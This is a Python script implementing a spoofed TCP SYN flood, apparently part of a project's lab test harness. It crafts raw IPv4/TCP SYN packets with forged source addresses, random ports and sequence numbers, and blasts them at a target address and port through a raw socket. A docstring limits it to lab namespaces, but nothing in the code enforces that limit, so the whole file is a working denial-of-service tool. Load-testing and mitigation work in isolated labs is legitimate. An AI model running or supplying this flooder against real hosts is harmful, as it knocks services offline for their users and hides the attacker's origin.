#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Spoofed TCP SYN flood for the namespace labs (tests/e2e/lab_flood.sh).

Sends raw IPv4/TCP SYNs to DST:PORT from random source addresses of
SRC_NET (a /24 given as a.b.c, hosts 10..250), random source ports and
sequence numbers, with an MSS option, through a raw socket (IP_HDRINCL),
as fast as Python can (or at most RATE frames a second when RATE is
given and not 0), until COUNT frames are sent or SECONDS pass,
whichever comes first. Only meant to run inside a lab namespace: the
addresses must be the lab's own. Prints one JSON object: frames sent,
seconds taken. Exit 0 on a completed run, 1 when the socket cannot be
opened (needs root), 2 on a bad command line.

Usage: syn_flood.py DST PORT SRC_NET COUNT SECONDS [RATE]
"""
import json
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + 1) << 4,
                      0x02, 64240, 0, 0) + opts
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp),
                     random.getrandbits(16), 0x4000, 64, socket.IPPROTO_TCP,
                     0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main(argv):
    if len(argv) not in (6, 7):
        print(__doc__.strip().splitlines()[-1], file=sys.stderr)
        return 2
    try:
        dst = socket.inet_aton(argv[1])
        dport = int(argv[2])
        net = [int(x) for x in argv[3].split(".")]
        count = int(argv[4])
        seconds = float(argv[5])
        rate = int(argv[6]) if len(argv) == 7 else 0
        if len(net) != 3 or not 0 < dport < 65536 or count < 1 \
                or not 0 < seconds <= 600 or rate < 0:
            raise ValueError
    except (OSError, ValueError):
        print("syn_flood: bad arguments", file=sys.stderr)
        return 2
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except OSError as e:
        print("syn_flood: raw socket: %s" % e, file=sys.stderr)
        return 1
    # a pool of prepared frames, cycled: the sending loop stays cheap
    pool = [syn(bytes(net + [random.randint(10, 250)]), dst,
                random.randint(1024, 65535), dport, random.getrandbits(32))
            for _ in range(16384)]
    t0 = time.monotonic()
    deadline = t0 + seconds
    sent = errors = 0
    while sent < count:
        if (sent & 255) == 0:
            now = time.monotonic()
            if now >= deadline:
                break
            if rate and sent > rate * (now - t0):
                time.sleep(min(sent / rate - (now - t0), deadline - now))
        try:
            s.sendto(pool[sent % len(pool)], (argv[1], 0))
        except OSError:
            errors += 1
            if errors > 1000:
                break
        sent += 1
    took = time.monotonic() - t0
    print(json.dumps({"sent": sent - errors, "errors": errors,
                      "seconds": round(took, 3),
                      "distinct_tuples": len(pool)}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
